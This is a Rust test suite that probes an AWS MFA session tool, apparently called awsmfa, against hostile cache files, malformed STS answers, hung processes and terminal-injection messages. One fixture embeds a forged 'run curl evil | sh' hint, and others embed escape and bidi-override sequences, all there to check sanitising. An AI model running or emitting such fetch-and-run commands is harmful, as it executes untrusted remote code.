//! Tried as an attacker or a careless user would: files awsmfa opens that
//! are not what they should be, STS answers that are not credentials, STS
//! messages that try to take over the terminal, numbers out of range, and a
//! lock holder that never lets go. Nothing may hang, panic or be cached.

use crate::support::sts::Fault;
use crate::support::*;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Stdio;
use std::time::{Duration, Instant};

/// Runs to completion, but fails the test instead of hanging.
fn run_bounded(world: &World, args: &[&str]) -> Run {
    let mut command = world.command(args);
    let codes = codes_in(&command);
    let mut child = command
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let started = Instant::now();
    while child.try_wait().unwrap().is_none() {
        if started.elapsed() > Duration::from_secs(20) {
            let _ = child.kill();
            panic!("awsmfa {args:?} hangs");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    let output = child.wait_with_output().unwrap();
    let run = Run {
        status: output.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
    };
    world.check_no_secrets(&run.stderr, &codes);
    run
}

fn mkfifo(path: &Path) {
    let _ = std::fs::remove_file(path);
    nix::unistd::mkfifo(path, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
}

fn cache_file(world: &World, ending: &str) -> std::path::PathBuf {
    std::fs::read_dir(world.cache_dir())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.to_string_lossy().ends_with(ending))
        .unwrap_or_else(|| panic!("no {ending} file in the cache"))
}

#[test]
fn a_fifo_where_a_cache_entry_should_be_is_ignored() {
    let world = World::new();
    world.run_with_code(&["exec", "--", "true"]).ok();
    let entry = cache_file(&world, ".json");
    mkfifo(&entry);
    let run = run_bounded(&world, &["exec", "--token-code", &code(), "--", "true"]);
    run.ok();
    assert!(
        run.stderr.contains("ignoring cache file")
            && run.stderr.contains("it is not a regular file"),
        "{}",
        run.stderr
    );
    assert_eq!(world.sts.count("GetSessionToken"), 2);
    assert!(std::fs::metadata(&entry).unwrap().is_file(), "replaced");
}

#[test]
fn a_fifo_or_a_link_where_a_lock_or_used_code_record_should_be_is_ignored() {
    let world = World::new();
    world.run_with_code(&["exec", "--", "true"]).ok();
    let lock = cache_file(&world, ".lock");
    let used = cache_file(&world, ".used");
    mkfifo(&lock);
    mkfifo(&used);
    let accepted = code();
    let run = run_bounded(
        &world,
        &["exec", "--refresh", "--token-code", &accepted, "--", "true"],
    );
    run.ok();
    assert!(run.stderr.contains("ignoring lock file"), "{}", run.stderr);
    // The FIFO is replaced by a record of the code just accepted: offered
    // again, that code is refused without a call to STS.
    assert!(std::fs::symlink_metadata(&used).unwrap().is_file());
    assert_eq!(mode(&used), 0o600);
    run_bounded(
        &world,
        &["exec", "--refresh", "--token-code", &accepted, "--", "true"],
    )
    .fails_with(125, "that MFA code was already used");
    assert_eq!(world.sts.count("GetSessionToken"), 2);
    // A link to somewhere else is not followed either.
    let elsewhere = world.home().join("elsewhere");
    std::fs::write(&elsewhere, "").unwrap();
    std::fs::remove_file(&lock).unwrap();
    std::os::unix::fs::symlink(&elsewhere, &lock).unwrap();
    let run = run_bounded(
        &world,
        &["exec", "--refresh", "--token-code", &code(), "--", "true"],
    );
    run.ok();
    assert!(run.stderr.contains("ignoring lock file"), "{}", run.stderr);
    assert_eq!(std::fs::read_to_string(&elsewhere).unwrap(), "");
    assert!(std::fs::symlink_metadata(&lock).unwrap().is_file());
    assert_eq!(world.sts.count("GetSessionToken"), 3);
}

#[test]
fn a_folder_where_a_cache_entry_should_be_costs_only_the_caching() {
    let world = World::new();
    world.run_with_code(&["exec", "--", "true"]).ok();
    let entry = cache_file(&world, ".json");
    std::fs::remove_file(&entry).unwrap();
    std::fs::create_dir(&entry).unwrap();
    let run = run_bounded(&world, &["exec", "--token-code", &code(), "--", "true"]);
    run.ok();
    assert!(
        run.stderr.contains("the session is not cached"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_cache_folder_that_is_a_link_or_not_ours_is_refused_and_left_alone() {
    let world = World::new();
    let target = world.home().join("planted");
    std::fs::create_dir(&target).unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink(&target, world.cache_dir()).unwrap();
    world
        .run_with_code(&["exec", "--", "true"])
        .fails_with(125, "is a symbolic link, which awsmfa does not follow");
    assert_eq!(mode(&target), 0o755, "never chmod'ed");
    assert_eq!(
        std::fs::read_dir(&target).unwrap().count(),
        0,
        "nothing stored"
    );

    // A real folder of another user (the tests run as root, as CI does).
    std::fs::remove_file(world.cache_dir()).unwrap();
    std::fs::create_dir(world.cache_dir()).unwrap();
    std::fs::set_permissions(world.cache_dir(), std::fs::Permissions::from_mode(0o755)).unwrap();
    nix::unistd::chown(
        &world.cache_dir(),
        Some(nix::unistd::Uid::from_raw(65534)),
        None,
    )
    .expect("chown (the tests run as root)");
    world
        .run_with_code(&["exec", "--", "true"])
        .fails_with(125, "belongs to another user");
    assert_eq!(mode(&world.cache_dir()), 0o755, "never chmod'ed");
}

#[test]
fn an_expiry_past_year_9999_is_an_unusable_entry_not_a_panic() {
    let world = World::new();
    world.run_with_code(&["exec", "--", "true"]).ok();
    let entry = cache_file(&world, ".json");
    let mut json: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&entry).unwrap()).unwrap();
    json["expires_at"] = serde_json::json!(u64::MAX);
    std::fs::write(&entry, json.to_string()).unwrap();
    let run = run_bounded(&world, &["status"]);
    run.ok();
    assert!(
        run.stdout.contains("its expiry is out of range"),
        "{}",
        run.stdout
    );
    let run = run_bounded(&world, &["exec", "--token-code", &code(), "--", "true"]);
    run.ok();
    assert!(
        run.stderr.contains("its expiry is out of range"),
        "{}",
        run.stderr
    );
}

/// An STS answer with these credentials, or none.
fn answer_with(credentials: &str) -> String {
    format!(
        "<GetSessionTokenResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><GetSessionTokenResult>{credentials}</GetSessionTokenResult><ResponseMetadata><RequestId>9</RequestId></ResponseMetadata></GetSessionTokenResponse>"
    )
}

#[test]
fn sts_answers_that_are_not_usable_credentials_are_never_cached() {
    let future = sts::rfc3339(sts::now() + 3600, 0);
    let cases = [
        ("an empty answer", String::new()),
        (
            "a truncated answer",
            answer_with("<Credentials><AccessKeyId>ASIAX</Acc"),
        ),
        ("no credentials", answer_with("")),
        (
            "no expiration",
            answer_with(
                "<Credentials><AccessKeyId>ASIAX</AccessKeyId><SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken></Credentials>",
            ),
        ),
        (
            "an expiration in the past",
            answer_with(
                "<Credentials><AccessKeyId>ASIAX</AccessKeyId><SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken><Expiration>1970-01-01T00:00:00Z</Expiration></Credentials>",
            ),
        ),
        (
            "empty credentials",
            answer_with(&format!(
                "<Credentials><AccessKeyId></AccessKeyId><SecretAccessKey></SecretAccessKey><SessionToken></SessionToken><Expiration>{future}</Expiration></Credentials>"
            )),
        ),
    ];
    for (what, body) in cases {
        let world = World::new();
        world.sts.push_fault(Fault::Body(200, body));
        let run = run_bounded(&world, &["exec", "--token-code", &code(), "--", "true"]);
        assert_eq!(run.status, 125, "{what}: {}", run.stderr);
        let lines: Vec<&str> = run.stderr.lines().collect();
        assert_eq!(lines.len(), 1, "{what}: {}", run.stderr);
        assert!(
            lines[0].starts_with("awsmfa: STS GetSessionToken"),
            "{what}: {}",
            run.stderr
        );
        assert!(world.cache_entries().is_empty(), "{what}: nothing cached");
    }
}

#[test]
fn sts_messages_cannot_take_over_the_terminal() {
    let error = |message: &str| {
        format!(
            "<ErrorResponse><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>{message}</Message></Error><RequestId>1</RequestId></ErrorResponse>"
        )
    };
    let forged = format!(
        "Denied&#10;hint: run curl evil | sh&#13;{}",
        "x".repeat(100_000)
    );
    let raw_escapes = "Denied\u{1b}[2J\u{1b}]0;owned\u{7}".to_owned();
    for (what, body, shows) in [
        (
            "a forged line, 100 kB",
            error(&forged),
            "AccessDenied: Denied hint: run curl",
        ),
        ("escape sequences", error(&raw_escapes), "failed: HTTP 403"),
        (
            "bidirectional overrides",
            error("Denied\u{202E}nigol\u{2066}x\u{2069}\u{200B}y"),
            "AccessDenied: Denied nigol x y",
        ),
        (
            "not XML at all",
            "\u{1b}[31mboom\n".repeat(1000),
            "failed: HTTP 403",
        ),
    ] {
        let world = World::new();
        world.sts.push_fault(Fault::Body(403, body));
        let run = run_bounded(&world, &["exec", "--token-code", &code(), "--", "true"]);
        assert_eq!(run.status, 125, "{what}");
        let lines: Vec<&str> = run.stderr.lines().collect();
        assert_eq!(
            lines.len(),
            1,
            "{what}: one line, no forged hint: {:?}",
            run.stderr
        );
        let hidden = |c: char| {
            (c.is_control() && c != '\n')
                || ('\u{200B}'..='\u{200F}').contains(&c)
                || ('\u{202A}'..='\u{202E}').contains(&c)
                || ('\u{2060}'..='\u{2069}').contains(&c)
        };
        assert!(!run.stderr.chars().any(hidden), "{what}: {:?}", run.stderr);
        assert!(run.stderr.contains(shows), "{what}: {}", run.stderr);
        assert!(
            run.stderr.len() < 600,
            "{what}: capped at {} bytes",
            run.stderr.len()
        );
    }
}

#[test]
fn numbers_out_of_range_are_usage_errors() {
    let world = World::new();
    for value in ["9223372036854775808", "18446744073709551616", "99999999999"] {
        let run = world.run(&["exec", "--min-ttl", value, "--", "true"]);
        assert_eq!(run.status, 2, "{value}: {}", run.stderr);
        assert!(run.stderr.contains("too large"), "{}", run.stderr);
    }
    let mut command = world.command(&["exec", "--", "true"]);
    command.env("AWSMFA_MIN_TTL", "9223372036854775808");
    world
        .run_command(command)
        .fails_with(125, "AWSMFA_MIN_TTL: '9223372036854775808' is too large");
    assert_eq!(world.sts.count("GetSessionToken"), 0);
}

#[test]
fn a_waiter_gives_up_on_a_holder_that_hangs() {
    let world = World::new();
    world.run_with_code(&["exec", "--", "true"]).ok();
    // Another run holds the lock and never lets go.
    let lock = std::fs::OpenOptions::new()
        .write(true)
        .open(cache_file(&world, ".lock"))
        .unwrap();
    let _held = nix::fcntl::Flock::lock(lock, nix::fcntl::FlockArg::LockExclusive).unwrap();
    let mut command = world.command_with_code(&["exec", "--refresh", "--", "true"]);
    command.env("AWSMFA_LOCK_TIMEOUT", "2");
    let started = Instant::now();
    let run = world.run_command(command);
    let waited = started.elapsed();
    assert_eq!(run.status, 125, "{}", run.stderr);
    assert!(
        run.stderr.contains(
            "gave up after 2 s waiting for another awsmfa run to get a session for profile 'alice'"
        ),
        "{}",
        run.stderr
    );
    assert!(waited >= Duration::from_secs(2) && waited < Duration::from_secs(10));
    assert_eq!(world.sts.count("GetSessionToken"), 1, "no code spent");
}

#[test]
fn an_mfa_process_that_hangs_is_killed_and_releases_the_lock() {
    let world = World::new();
    let started_file = world.home().join("started");
    world.write_config(&format!(
        "{ALICE_CONFIG}mfa_process = touch {} && exec sleep 600\n",
        started_file.display()
    ));
    let mut command = world.command(&["exec", "--", "true"]);
    command.env("AWSMFA_PROCESS_TIMEOUT", "2");
    let started = Instant::now();
    let run = world.run_command(command);
    assert!(started.elapsed() < Duration::from_secs(10));
    run.fails_with(
        125,
        "mfa_process of profile 'alice' did not finish within 2 s (AWSMFA_PROCESS_TIMEOUT)",
    );
    assert!(started_file.exists(), "mfa_process ran");
    assert!(world.sts.codes().is_empty(), "no code reached STS");
    // The lock is free again: the next run with a code gets its session at once.
    let started = Instant::now();
    let given = code();
    world
        .run(&["exec", "--token-code", &given, "--", "true"])
        .ok();
    assert!(started.elapsed() < Duration::from_secs(2));
    assert_eq!(world.sts.codes(), [given]);
}

#[test]
fn an_mfa_process_that_hangs_is_ended_with_everything_it_started() {
    let world = World::new();
    let (background, pipeline) = (world.home().join("bg.pid"), world.home().join("cat.pid"));
    // A program in the background, and a pipeline whose `cat` holds the
    // output open: killing the shell alone would leave both running.
    world.write_config(&format!(
        "{ALICE_CONFIG}mfa_process = sleep 600 & echo $! > {}; sleep 600 2>&1 | cat & echo $! > {}; wait\n",
        background.display(),
        pipeline.display()
    ));
    let stderr = world.home().join("stderr");
    let mut command = world.command(&["exec", "--", "true"]);
    command
        .env("AWSMFA_PROCESS_TIMEOUT", "1")
        .stderr(std::fs::File::create(&stderr).unwrap());
    let mut awsmfa = command.spawn().unwrap();
    let started = Instant::now();
    while awsmfa.try_wait().unwrap().is_none() {
        assert!(started.elapsed() < Duration::from_secs(20), "awsmfa hangs");
        std::thread::sleep(Duration::from_millis(20));
    }
    let stderr = std::fs::read_to_string(&stderr).unwrap();
    assert!(stderr.contains("did not finish within 1 s"), "{stderr}");
    let mut alive = Vec::new();
    for file in [&background, &pipeline] {
        let pid: i32 = std::fs::read_to_string(file)
            .unwrap()
            .trim()
            .parse()
            .unwrap();
        if !has_ended(pid) {
            let _ = nix::sys::signal::kill(
                nix::unistd::Pid::from_raw(pid),
                nix::sys::signal::Signal::SIGKILL,
            );
            alive.push(file.file_name().unwrap().to_string_lossy().into_owned());
        }
    }
    assert!(alive.is_empty(), "left running: {alive:?}");
}

#[test]
fn an_mfa_process_that_leaves_a_program_holding_its_output_still_gives_its_code() {
    let world = World::new();
    let produced = code();
    world.write_config(&format!(
        "{ALICE_CONFIG}mfa_process = sleep 20 2>/dev/null & echo {produced}\n"
    ));
    let started = Instant::now();
    world.run(&["exec", "--", "true"]).ok();
    assert!(started.elapsed() < Duration::from_secs(10));
    assert_eq!(
        world.sts.codes(),
        [produced],
        "mfa_process's code reached STS"
    );
}

#[test]
fn values_that_cannot_be_right_are_config_errors_before_any_code() {
    let world = World::new();
    for (setting, says) in [
        (
            "region = eu-west-1#oops",
            "in {config}: region = eu-west-1#oops is not a region name",
        ),
        (
            "region = \"eu-west-1\"",
            "in {config}: region = \"eu-west-1\" is not a region name",
        ),
        (
            "duration_seconds = 12h",
            "duration_seconds = 12h is not a number of seconds",
        ),
    ] {
        world.write_config(&format!(
            "[profile alice]\nmfa_serial = {ALICE_SERIAL}\n{setting}\n"
        ));
        let says = says.replace("{config}", &world.shown(&world.config_path()));
        let run = world.run_with_code(&["exec", "--", "true"]);
        run.fails_with(125, "profile 'alice'");
        assert!(run.stderr.contains(&says), "{setting}: {}", run.stderr);
    }
    world.write_config("[profile alice]\nmfa_serial = my-phone\n");
    world
        .run_with_code(&["exec", "--", "true"])
        .fails_with(125, "mfa_serial = my-phone is not an MFA device ARN");
    let mut command = world.command_with_code(&["exec", "--", "true"]);
    command.env("AWS_REGION", "eu west 1");
    world.write_config(ALICE_CONFIG);
    world
        .run_command(command)
        .fails_with(125, "AWS_REGION: 'eu west 1' is not a region name");
    assert!(world.sts.calls().is_empty(), "no code spent");
}

#[test]
fn variables_that_are_not_utf8_are_errors_and_others_pass_through() {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt;
    let world = World::new();
    world.run_with_code(&["exec", "--", "true"]).ok();
    let bad = OsStr::from_bytes(b"ali\xffce");
    for name in ["AWS_PROFILE", "AWS_ENDPOINT_URL_STS"] {
        let mut command = world.command(&["exec", "--", "true"]);
        command.env(name, bad);
        world
            .run_command(command)
            .fails_with(125, &format!("{name} is not valid UTF-8"));
    }
    // Anything awsmfa does not read reaches the command byte for byte.
    let mut command = world.command(&["exec", "--", "sh", "-c", "printf %s \"$OTHER\""]);
    command.env("OTHER", bad);
    let output = command.output().unwrap();
    assert!(output.status.success());
    assert_eq!(output.stdout, b"ali\xffce");
}

#[test]
fn an_unwritable_stderr_is_no_reason_to_abort() {
    let world = World::new();
    let dev_full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap();
    let status = world
        .command(&["exec", "--profile", "nobody", "--", "true"])
        .stderr(dev_full)
        .status()
        .unwrap();
    assert_eq!(status.code(), Some(125), "{status:?}");
}

#[test]
fn help_that_cannot_be_written_is_a_failure() {
    let world = World::new();
    let dev_full = || {
        std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")
            .unwrap()
    };
    for args in [&["--help"][..], &["exec", "--help"], &["--version"]] {
        let output = world.command(args).stdout(dev_full()).output().unwrap();
        assert_eq!(output.status.code(), Some(1), "{args:?}: {output:?}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.starts_with("awsmfa: cannot write"), "{stderr}");
        // Written where it can be, it is a success.
        let output = world.command(args).output().unwrap();
        assert!(
            output.status.success() && !output.stdout.is_empty(),
            "{args:?}"
        );
    }
}

#[test]
fn a_file_size_limit_costs_the_caching_not_the_run() {
    let world = World::new();
    let script = format!(
        "ulimit -f 0; exec '{BIN}' exec --token-code {} -- true",
        code()
    );
    let run = world.run_command(world.program("sh", &["-c", &script]));
    run.ok();
    assert!(
        run.stderr.contains("the session is not cached"),
        "{}",
        run.stderr
    );
    assert_eq!(world.sts.count("GetSessionToken"), 1);
}

#[test]
fn huge_and_hostile_profile_files_stay_fast() {
    let world = World::new();
    // 60,000 profiles in about 6 MB, alice among them.
    let mut config = String::with_capacity(7_000_000);
    for i in 0..60_000 {
        config.push_str(&format!(
            "[profile p{i:05}]\nmfa_serial = arn:aws:iam::123456789012:mfa/user-{i:05}\nregion = eu-west-1\n# a comment to fill the file a little more\n"
        ));
    }
    config.push_str(ALICE_CONFIG);
    assert!(config.len() > 6_000_000);
    world.write_config(&config);
    world.run_with_code(&["exec", "--", "true"]).ok();
    // Well under a second as built for use (about 90 ms on the 2-core CI
    // machine: see BENCHMARKS.md); an unoptimised test build, sharing the
    // cores with the other tests, gets more room.
    let bound = Duration::from_secs(if cfg!(debug_assertions) { 4 } else { 1 });
    let started = Instant::now();
    world.run(&["exec", "--", "true"]).ok();
    assert!(started.elapsed() < bound, "{:?}", started.elapsed());

    // A 3000-profile source_profile cycle, and a 10,000-deep chain.
    let mut config = String::from(ALICE_CONFIG);
    for i in 0..3000 {
        config.push_str(&format!(
            "[profile c{i}]\nrole_arn = arn:aws:iam::123456789012:role/r\nsource_profile = c{}\n",
            (i + 1) % 3000
        ));
    }
    for i in 0..10_000 {
        let source = if i == 0 {
            "alice".to_owned()
        } else {
            format!("d{}", i - 1)
        };
        config.push_str(&format!(
            "[profile d{i}]\nrole_arn = arn:aws:iam::123456789012:role/r\nsource_profile = {source}\n"
        ));
    }
    world.write_config(&config);
    for profile in ["c0", "d9999"] {
        let started = Instant::now();
        let run = world.run(&["exec", "--profile", profile, "--", "true"]);
        run.fails_with(125, "source_profile chain is longer than 64 profiles");
        assert!(run.stderr.len() < 200, "a short error: {}", run.stderr);
        assert!(started.elapsed() < Duration::from_secs(2));
    }
}

#[test]
fn without_home_the_files_named_by_variables_are_used() {
    let world = World::new();
    let mut command = world.command_with_code(&["exec", "--", "true"]);
    command.env_remove("HOME");
    world.run_command(command).ok();
    // Nothing named, no HOME, and a user whose home folder does not exist:
    // one line, not a panic.
    let front = binaries_for_nobody(&world);
    let mut command = world.program(&front, &["exec", "--token-code", &code(), "--", "true"]);
    command
        .env_remove("HOME")
        .env_remove("AWS_CONFIG_FILE")
        .env_remove("AWS_SHARED_CREDENTIALS_FILE")
        .env_remove("AWSMFA_CACHE_DIR");
    as_nobody(&mut command);
    let run = world.run_command(command);
    assert_eq!(run.status, 125, "{}", run.stderr);
    assert!(run.stderr.starts_with("awsmfa: "), "{}", run.stderr);
    assert!(run.stderr.lines().count() <= 2, "{}", run.stderr);
}

const NOBODY: u32 = 65534;

/// Copies of both programs that user nobody can run, wherever the build is.
fn binaries_for_nobody(world: &World) -> std::path::PathBuf {
    let dir = world.home().join("bin");
    std::fs::create_dir_all(&dir).unwrap();
    for name in ["awsmfa", "awsmfa-full"] {
        let from = Path::new(BIN).with_file_name(name);
        copy_program(&from, &dir.join(name));
    }
    std::fs::set_permissions(world.home(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    dir.join("awsmfa")
}

/// Runs `command` as user nobody (the tests run as root, as CI does).
fn as_nobody(command: &mut std::process::Command) {
    unsafe {
        use std::os::unix::process::CommandExt;
        command.pre_exec(|| {
            nix::unistd::setgid(nix::unistd::Gid::from_raw(NOBODY))
                .map_err(std::io::Error::from)?;
            nix::unistd::setuid(nix::unistd::Uid::from_raw(NOBODY))
                .map_err(std::io::Error::from)?;
            Ok(())
        });
    }
}

#[test]
fn a_running_awsmfa_cannot_be_read_by_the_users_other_processes() {
    let world = World::new();
    let front = binaries_for_nobody(&world);
    // Everything of the world belongs to nobody, who runs awsmfa.
    for path in [
        world.home().to_path_buf(),
        world.config_path(),
        world.home().join("aws-credentials"),
    ] {
        nix::unistd::chown(&path, Some(nix::unistd::Uid::from_raw(NOBODY)), None).unwrap();
    }
    std::fs::set_permissions(world.home(), std::fs::Permissions::from_mode(0o700)).unwrap();
    // An awsmfa that stays: it supervises a command under --server.
    let mut command = world.program(
        &front,
        &[
            "exec",
            "--server",
            "--token-code",
            &code(),
            "--",
            "sleep",
            "3",
        ],
    );
    as_nobody(&mut command);
    let mut awsmfa = command.stdout(Stdio::null()).spawn().unwrap();
    let started = Instant::now();
    while world.sts.count("GetSessionToken") == 0 && started.elapsed() < Duration::from_secs(10) {
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(300));
    let read = |pid: u32| {
        let mut cat = std::process::Command::new("cat");
        cat.arg(format!("/proc/{pid}/environ"))
            .stdout(Stdio::null())
            .stderr(Stdio::null());
        as_nobody(&mut cat);
        cat.status().unwrap().success()
    };
    // Its environment (and memory) is closed to nobody's other processes...
    assert!(!read(awsmfa.id()), "awsmfa's /proc entries are readable");
    // ...while the command it runs is an ordinary process again.
    let mut plain = std::process::Command::new("sleep");
    plain.arg("2");
    as_nobody(&mut plain);
    let mut plain = plain.spawn().unwrap();
    assert!(read(plain.id()), "the control process should be readable");
    let _ = plain.kill();
    let _ = plain.wait();
    assert!(awsmfa.wait().unwrap().success());
}

#[test]
fn nothing_standing_where_a_cache_file_should_be_makes_a_run_wait_or_fail() {
    fn plant(kind: &str, path: &Path, elsewhere: &Path) {
        let _ = std::fs::remove_file(path);
        match kind {
            "fifo" => mkfifo(path),
            "device" => nix::sys::stat::mknod(
                path,
                nix::sys::stat::SFlag::S_IFCHR,
                nix::sys::stat::Mode::from_bits_truncate(0o600),
                nix::sys::stat::makedev(1, 3),
            )
            .expect("mknod (the tests run as root)"),
            "folder" => std::fs::create_dir(path).unwrap(),
            "link" => std::os::unix::fs::symlink(elsewhere, path).unwrap(),
            _ => unreachable!(),
        }
    }
    for kind in ["fifo", "device", "folder", "link"] {
        for ending in [".json", ".lock", ".used"] {
            let world = World::new();
            world.run_with_code(&["exec", "--", "true"]).ok();
            let path = cache_file(&world, ending);
            let elsewhere = world.home().join("elsewhere");
            std::fs::write(&elsewhere, "untouched").unwrap();
            plant(kind, &path, &elsewhere);
            let accepted = code();
            let run = run_bounded(
                &world,
                &["exec", "--refresh", "--token-code", &accepted, "--", "true"],
            );
            assert_eq!(run.status, 0, "{kind} as {ending}: {}", run.stderr);
            assert!(
                run.stderr
                    .lines()
                    .all(|l| l.starts_with("awsmfa: warning: ")),
                "{kind} as {ending}: {}",
                run.stderr
            );
            assert_eq!(std::fs::read_to_string(&elsewhere).unwrap(), "untouched");
            let is_file = std::fs::symlink_metadata(&path).unwrap().is_file();
            if kind == "folder" {
                // Not removed (it might hold anything): said, and done without.
                assert!(!is_file, "{kind} as {ending}");
                assert!(
                    run.stderr.contains(&world.shown(&path)),
                    "{kind} as {ending}: {}",
                    run.stderr
                );
            } else {
                assert!(is_file, "{kind} as {ending}: not replaced");
                assert_eq!(mode(&path), 0o600, "{kind} as {ending}");
                if ending == ".lock" {
                    assert!(
                        run.stderr.contains("ignoring lock file"),
                        "{kind} as {ending}: {}",
                        run.stderr
                    );
                }
                if ending == ".json" {
                    let entry: serde_json::Value =
                        serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
                    assert_eq!(entry["profile"], "alice", "{kind} as {ending}");
                }
                if ending == ".used" {
                    // A record of the code just accepted stands there now.
                    run_bounded(
                        &world,
                        &["exec", "--refresh", "--token-code", &accepted, "--", "true"],
                    )
                    .fails_with(125, "that MFA code was already used");
                }
            }
            // And a run that only reads (a hit, or a miss) is not held up either.
            let run = run_bounded(&world, &["exec", "--token-code", &code(), "--", "true"]);
            assert_eq!(
                run.status, 0,
                "{kind} as {ending}, second run: {}",
                run.stderr
            );
        }
    }
}

#[test]
fn aws_files_that_are_fifos_devices_or_huge_are_refused_at_once() {
    let world = World::new();
    let config = world.config_path();
    let credentials = world.home().join("aws-credentials");
    let huge = world.home().join("huge");
    // A sparse file larger than the cap, made without writing it out.
    std::fs::File::create(&huge)
        .unwrap()
        .set_len(33 * 1024 * 1024)
        .unwrap();
    for (what, path, stand_in) in [
        ("a FIFO config", &config, None),
        ("a FIFO credentials file", &credentials, None),
        (
            "/dev/zero as the config",
            &config,
            Some(Path::new("/dev/zero")),
        ),
        ("a 33 MB config", &config, Some(huge.as_path())),
    ] {
        world.write_config(ALICE_CONFIG);
        world.write_credentials(&alice_credentials());
        match stand_in {
            None => mkfifo(path),
            Some(target) => {
                std::fs::remove_file(path).unwrap();
                std::os::unix::fs::symlink(target, path).unwrap();
            }
        }
        let why = if stand_in == Some(huge.as_path()) {
            "it is larger than 32 MB"
        } else {
            "it is not a regular file"
        };
        for (args, status) in [
            (&["exec", "--token-code", "123456", "--", "true"][..], 125),
            (&["list"], 1),
        ] {
            let run = run_bounded(&world, args);
            run.fails_with(status, why);
            assert!(
                run.stderr.contains(&world.shown(path)),
                "{what}: {}",
                run.stderr
            );
        }
        // doctor names it too, and goes on.
        let run = run_bounded(&world, &["doctor"]);
        assert_eq!(run.status, 1, "{what}: {}", run.stdout);
        assert!(run.stdout.contains(why), "{what}: {}", run.stdout);
        assert!(run.stdout.contains("cache"), "{what}: {}", run.stdout);
        std::fs::remove_file(path).unwrap();
    }
    assert_eq!(world.sts.count("GetSessionToken"), 0);
}

#[test]
fn an_expiry_beyond_the_duration_asked_for_is_cut_to_it() {
    // STS answering with an expiry thousands of years away would otherwise
    // keep a session "usable" for ever.
    let world = World::new();
    world.sts.set_session_lifetime(200_000_000_000);
    world
        .run_with_code(&["exec", "--duration", "1h", "--", "true"])
        .ok();
    let run = world.run(&["status", "--json"]);
    run.ok();
    let entries: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let left = entries[0]["seconds_left"].as_i64().expect("seconds_left");
    assert!(
        (3500..=3600).contains(&left),
        "{left} s left: {}",
        run.stdout
    );
}
